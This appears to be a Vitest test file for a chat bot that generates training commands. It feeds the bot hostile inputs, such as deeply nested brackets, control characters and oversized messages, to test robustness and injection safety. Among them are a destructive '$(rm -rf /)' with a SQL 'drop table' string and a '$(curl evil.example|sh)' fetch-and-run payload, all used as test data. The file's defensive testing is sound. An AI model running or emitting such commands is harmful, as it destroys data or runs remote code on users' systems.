import { describe, expect, test } from 'vitest';
import { createBot } from '../../src/bot.ts';
import { encodeConversationId } from '../../src/message.ts';
import { createLogger } from '../../src/observability/logger.ts';
import { createMetrics } from '../../src/observability/metrics.ts';
import { createRateLimiter } from '../../src/observability/rate-limit.ts';
import { openStateStore } from '../../src/state/open-state-store.ts';
import { answerPorts } from '../contracts/golden-replies.ts';

const store = await openStateStore('memory:');
const lines: string[] = [];
const bot = createBot({
  ...answerPorts,
  store,
  limiter: createRateLimiter({ perPerson: 100_000, perConversation: 100_000 }),
  locale: 'en',
  retentionDays: 30,
  logger: createLogger({ level: 'debug', destination: { write: (line: string) => void lines.push(line) } }),
  metrics: createMetrics(),
  now: () => 1_800_000_000_000,
});

let count = 0;
const say = (text: string) => {
  count += 1;
  const conversationId = encodeConversationId({ adapter: 'test', tenant: 'x', channel: 'c', thread: `${count}` });
  return bot.handle({ messageId: `m${count}`, conversationId, userId: 'test:x:u', text, receivedAt: 0 });
};

const long = 99_000;
// Shapes that make careless parsers slow or deep; a quadratic one would outlast the suite's patience.
const hostile: readonly (readonly [string, string])[] = [
  ['one letter', 'a'.repeat(long)],
  ['digits', '9'.repeat(long)],
  ['open brackets', '('.repeat(long)],
  ['nested constructors', 'smp.Unet('.repeat(long / 9)],
  ['nested lists', '['.repeat(long / 2) + ']'.repeat(long / 2)],
  ['nested objects', '{"a":'.repeat(long / 5)],
  ['Chinese numerals', '千百十万亿'.repeat(long / 5)],
  ['sizes', '512x'.repeat(long / 4)],
  ['dots', '1.'.repeat(long / 2)],
  ['spaces', `batch${' '.repeat(long)}8`],
  ['slips', 'deeplabv3plusresnet'.repeat(long / 20)],
  ['out-of-memory reports', 'Tried to allocate 2.00 GiB (GPU 0; '.repeat(long / 40)],
  ['combining marks', `e${'\u0301'.repeat(long)}`],
  ['control characters', '\u0000\u001b[31m\u202e'.repeat(long / 8)],
  ['half surrogates', '\ud83d'.repeat(long)],
  ['line breaks', '\n'.repeat(long)],
  ['quotes and signs', '`$(rm -rf /)` "; drop table entry; -- '.repeat(long / 40)],
];

describe('hostile messages', () => {
  test.each(hostile)('%s: an answer comes, and the process lives', async (_name, text) => {
    const reply = await say(text);
    expect(reply.fallback.length).toBeGreaterThan(0);
    expect(reply.fallback.length).toBeLessThan(20_000);
  });

  test('a message of a megabyte is declined with a sentence', async () => {
    const reply = await say('segformer b2 '.repeat(80_000));
    expect(reply.kind).toBe('notice');
    expect(reply.fallback.length).toBeLessThan(1_000);
  });

  test('the command to copy holds nothing of what a person wrote', async () => {
    const reply = await say('segformer b2 512x512 batch 8 budget 10 CNY/hour region $(curl evil.example|sh)');
    const commands = reply.blocks.filter((block) => block.kind === 'code').map((block) => JSON.stringify(block));
    expect(commands.join('')).not.toContain('evil.example');
  });

  test('nothing that people wrote reached the log', () => {
    expect(lines.join('')).not.toMatch(/deeplabv3plusresnet|drop table|evil\.example/);
  });
});
